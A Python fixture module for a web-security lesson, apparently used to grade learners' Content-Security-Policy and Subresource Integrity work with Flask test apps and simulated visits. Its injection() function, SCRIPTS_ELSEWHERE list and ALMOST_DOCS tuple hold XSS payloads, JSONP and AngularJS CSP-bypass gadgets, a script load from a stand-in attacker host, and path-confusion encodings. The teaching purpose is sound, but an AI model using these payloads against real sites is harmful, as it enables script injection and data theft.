"""The sites of lesson 09's exercises, what is asked of them, and what an attacker tries there."""

from __future__ import annotations

import base64
import hashlib
import secrets
from collections.abc import Mapping, Sequence
from random import Random
from typing import Any
from urllib.parse import quote

from flask import Flask, g, render_template_string, request
from flask.typing import ResponseReturnValue

from helpers import services
from helpers.exchange import Request, Response, get, post
from helpers.exercises.arrivals import (
    EVIL,
    FIREFOX,
    OTHER_SITES,
    by_link,
    by_visitors,
    choosing,
)
from helpers.exercises.drawn import drawn
from helpers.integrity import digest

SHOP = "https://shop.test"
PAGE = f"{SHOP}/"
JAVASCRIPT = {"Content-Type": "text/javascript"}

CDN = "https://cdn.jsdelivr.net/npm/"
CHART = f"{CDN}chart.js@4.5.0/dist/chart.umd.min.js"
DAYJS = f"{CDN}dayjs@1.11.13/dayjs.min.js"
ALPINE = f"{CDN}alpinejs@3.15.0/dist/cdn.min.js"
HTMX_LATEST = f"{CDN}htmx.org@latest/dist/htmx.min.js"
HTMX = f"{CDN}htmx.org@2.0.7/dist/htmx.min.js"

ON_CDN = {
    CHART: b"/* chart.js 4.5.0 */ window.Chart = true",
    DAYJS: b"/* dayjs 1.11.13 */ window.dayjs = true",
    ALPINE: b"/* alpinejs 3.15.0 */ window.Alpine = true",
    HTMX_LATEST: b"/* htmx.org 2.0.7 */ window.htmx = true",
    HTMX: b"/* htmx.org 2.0.7 */ window.htmx = true",
}
"""The CDN's files: stand-ins as long as a learner wants to read."""

TAMPERED = {url: body.replace(b"true", b"'tampered'") for url, body in ON_CDN.items()}
RELEASED = ON_CDN | {HTMX_LATEST: b"/* htmx.org 2.0.8 */ window.htmx = true"}
"""The same after a break-in, and after the next release of htmx."""


def shared(body: bytes) -> Response:
    """A file as the CDN answers with it: every site may read it."""
    fields = (("Content-Type", "text/javascript"), ("Access-Control-Allow-Origin", "*"))
    return Response(headers=fields, body=body)


def _tag(url: str, integrity: str, more: str = "crossorigin") -> str:
    return f'<script src="{url}" integrity="{integrity}" {more}></script>'


def _sha384(url: str) -> bytes:
    return hashlib.sha384(ON_CDN[url]).digest()


GIVEN_TAGS = {
    "a": _tag(CHART, "sha384-" + _sha384(CHART).hex()),
    "b": _tag(DAYJS, digest(ON_CDN[DAYJS]), more=""),
    "c": _tag(ALPINE, "sha348-" + base64.b64encode(_sha384(ALPINE)).decode()),
    "d": _tag(HTMX_LATEST, digest(ON_CDN[HTMX_LATEST])),
}
"""The four tags exercise 1 starts from."""

CHECKOUT = """<!doctype html><title>Checkout</title>
<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Lab">
<link rel="stylesheet" href="/shop.css">
<h1>Checkout</h1><p>Coupon: {{ coupon|safe }}</p>
<div id="card"></div><div class="g-recaptcha"></div>
<form action="/pay" method="post"><button>Pay</button></form>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-LAB"></script>
<script>window.dataLayer = window.dataLayer || []
function gtag() { dataLayer.push(arguments) }
gtag("js", new Date()); gtag("config", "G-LAB")</script>
<script src="https://js.stripe.com/v3/"></script>
<script src="https://www.google.com/recaptcha/api.js"></script>
<script src="/shop.js"></script>"""
STYLE = """body { font-family: Lab, sans-serif }
button { background: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>") }"""
WIDE = "default-src 'self' https: data: 'unsafe-inline' 'unsafe-eval'"


def checkout() -> Flask:
    """The app of exercise 2: a checkout with four third parties, a coupon, and a wide policy."""
    app = Flask("checkout")

    @app.before_request
    def make_nonce() -> None:
        g.nonce = secrets.token_urlsafe(16)

    @app.get("/")
    def home() -> str:
        return render_template_string(CHECKOUT, coupon=request.args.get("coupon", "none"))

    @app.get("/shop.css")
    def style() -> ResponseReturnValue:
        return STYLE, {"Content-Type": "text/css"}

    @app.get("/shop.js")
    def script() -> ResponseReturnValue:
        return 'document.querySelector("h1").textContent += ": 4 EUR"', JAVASCRIPT

    @app.after_request
    def policy(response: Any) -> Any:
        response.headers["Content-Security-Policy"] = WIDE
        return response

    return app


_BY_ANYBODY = "what anybody can publish"
_WITH_ANY_CODE = "a file that runs what an attacker hands it"
SCRIPTS_ELSEWHERE = {
    f"{EVIL}/x.js": "the attacker's own",
    f"{CDN}evil-package@1.0.0/index.js": _BY_ANYBODY,
    "https://www.googletagmanager.com/gtm.js?id=GTM-EVIL": _BY_ANYBODY,
    "https://www.googletagmanager.com/gtag/js?id=GTM-EVIL": _BY_ANYBODY,
    "https://maps.googleapis.com/maps/api/js/GeoPhotoService.GetMetadata?callback=steal": (
        _WITH_ANY_CODE
    ),
    "https://ajax.googleapis.com/ajax/libs/angularjs/1.8.3/angular.min.js": _WITH_ANY_CODE,
    "https://www.google.com/complete/search?client=chrome&jsonp=steal": _WITH_ANY_CODE,
    "https://www.gstatic.com/fsn/angular_js-bundle1.js": _WITH_ANY_CODE,
}
"""Files an attacker wrote, or that do an attacker's work (csp-evaluator, its two host lists)."""


def injection(mark: str) -> str:
    """What an attacker puts into a page that does not escape it; ``mark`` is in each piece."""
    at = [f"{url}{'&' if '?' in url else '?'}{mark}" for url in SCRIPTS_ELSEWHERE]
    at.append(f"data:text/javascript,steal('{mark}')")
    files = "".join(f'<script src="{url}"></script>' for url in at)
    code = f"steal('{mark}')"
    as_template = rf'{{{{ ("\x3cscript nonce=" ~ g.nonce ~ "\x3e{code}\x3c/script\x3e")|safe }}}}'
    return f'<script>{code}</script><img src="x?{mark}" onerror="{code}">{as_template}{files}'


HANDLER = quote('<img src="x?attack" onerror="attack()">')
COUPONS = (
    "coupon=SPRING",
    f"coupon={HANDLER}",
    "coupon=" + quote("SPRING; script-src-attr 'unsafe-inline'"),
    "coupon=SPRING&coupon=SUMMER&debug=1",
)
"""What of the checkout's query a policy could hang on, or be made of."""


def checkout_visits(random: Random) -> Sequence[Request]:
    """The page twice, for its nonces, with one that an attacker would like, and with coupons.

    Then by a link of evil.test's, with an attack in the coupon, by http and by another name; its
    own files; errors.
    """
    word = drawn(random)
    attack = Request(url=f"{SHOP}/?coupon={quote(injection(drawn(random)))}")
    paths = ("/shop.css", "/shop.js", f"/{drawn(random)}", f"/{drawn(random)}.html", "/pay")
    chosen = choosing(word, "/")
    coupons = [get(f"/?{query}") for query in COUPONS]
    coupons += [by_link(f"/?{COUPONS[0]}", user_agent=FIREFOX), *by_visitors(f"/?{COUPONS[0]}")]
    pages = [get("/"), get("/"), chosen, chosen, *coupons, attack]
    pages += [get("/", site) for site in OTHER_SITES]
    return [*pages, *map(get, paths), *map(post, ("/shop.css?x=1", f"/{drawn(random)}"))]


HOME = f"""<!doctype html><title>Shop</title><h1>Prices</h1>
<script src="{CHART}"></script>
<script src="/prices.js"></script>"""
DOCS = """<!doctype html><title>API</title><h1>API</h1>
<div id="swagger-ui" style="margin: 1em"></div>
<script src="/swagger-ui-bundle.js"></script>
<script>SwaggerUIBundle({ dom_id: "#swagger-ui" })</script>"""
LOOSE = (
    "default-src 'self'; script-src 'self' 'unsafe-inline' https://cdn.jsdelivr.net; "
    "style-src 'self' 'unsafe-inline'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
)
SCRIPTS = {
    "prices": 'document.querySelector("h1").textContent += ": 4 EUR"',
    "swagger-ui-bundle": "window.SwaggerUIBundle = () => { window.documented = true }",
}


def docs_shop() -> Flask:
    """The app of exercise 3: a shop, the pages of its API, and one policy for all of them."""
    app = Flask("docs_shop")

    @app.get("/")
    def home() -> str:
        return HOME

    @app.get("/docs")
    def docs() -> str:
        return DOCS

    @app.get("/docs/notes")
    def notes() -> str:
        return NOTES_PAGE.format(request.args.get("note", "none"))

    @app.get("/<name>.js")
    def script(name: str) -> ResponseReturnValue:
        return SCRIPTS[name], JAVASCRIPT

    @app.after_request
    def policy(response: Any) -> Any:
        response.headers["Content-Security-Policy"] = LOOSE
        return response

    return app


def docs_visits(random: Random) -> Sequence[Request]:
    """Every page, some that are not there or fail, and the scripts; then an attack in a note.

    What a hook may look for where it should ask for the path is in some addresses, in a note and in
    a Referer: an attacker chooses all three. Nor may it hang on who is logged in, or came before.
    """
    attack = injection(drawn(random))
    note = f"/docs/notes?note={quote(attack)}"
    missing = (
        f"/{drawn(random)}",
        f"/docs/{drawn(random)}",
        f"/docs{drawn(random)}",
        f"/{drawn(random)}/docs",
        *ALMOST_DOCS,
    )
    paths = (
        *("/", "/", "/?utm_source=x", "/docs", f"/docs?{drawn(random)}=1"),
        *missing,
        *("/prices.js", "/swagger-ui-bundle.js", BROKEN),
    )
    alike = (note, *said_to_be_docs(attack), f"/docs/notes?note={quote(LIKE_DOCS + attack)}")
    led = {"sec_fetch_site": "cross-site", "sec_fetch_mode": "navigate"}
    from_docs = [get(note, referer=f"{site}/docs", **led) for site in (EVIL, SHOP)]
    plain = [get(f"/docs/notes{query}") for query in NOTES]
    firefox = get("/docs/notes?note=x", cookie="docs=1", user_agent=FIREFOX)
    elsewhere = [get(path, site) for path in ("/", note, "/docs") for site in OTHER_SITES]
    asked = [*map(get, (*paths, *alike)), *plain, *from_docs, firefox, *elsewhere]
    return [*asked, *by_visitors(note), post("/docs/notes")]


ALMOST_DOCS = (
    *("/docs/", "/DOCS"),
    *("/docs%3Fx", "/docs%23x", "/docs%0A", "/docs%20", "/%2564ocs"),
)
"""Pages that are not there, though they are called almost as /docs.

Of the last five, who splits, matches, strips or decodes the path again makes /docs.
"""
BROKEN = "/no-such-script.js"
"""A page that is an error of the app's own, with the status 500."""
AS_DOCS = (
    "raw=1&debug=1&format=html&swagger=1&relaxed=1&page=docs",
    "docs=/docs&from=/docs&path=/docs&next=/docs&view=docs",
)
LIKE_DOCS = f"SwaggerUIBundle( in a note <!--{DOCS}-->"
NOTES_PAGE = "<!doctype html><h1>Notes</h1><p>{}</p>"
NOTES = (
    f"?note={'x' * (len(DOCS) - len(NOTES_PAGE.format('')))}",
    "",
    "?note=hello",
    f"?note={HANDLER}",
    "?note=/docs",
    "?x=/docs?&note=y",
    "?mode=api&print=1",
)
"""Queries of the notes that a policy should not hang on; by the first they are as long as /docs."""


def said_to_be_docs(note: str) -> list[str]:
    """The notes with this one, and with what of the query a policy should not hang on."""
    return [f"/docs/notes?{said}&note={quote(note)}&note=docs" for said in AS_DOCS]


def files(
    own: Mapping[str, Response], on_cdn: Mapping[str, bytes] = ON_CDN, added: str = ""
) -> dict[str, Response]:
    """The script files of the web by their addresses: the site's own, the CDN's, the services'.

    ``added`` is what the services' next release adds to theirs.
    """
    theirs = {
        url: shared(f"{text}{added}".encode())
        for url, (kind, text) in services.FILES.items()
        if kind == "text/javascript"
    }
    return theirs | {url: shared(body) for url, body in on_cdn.items()} | dict(own)
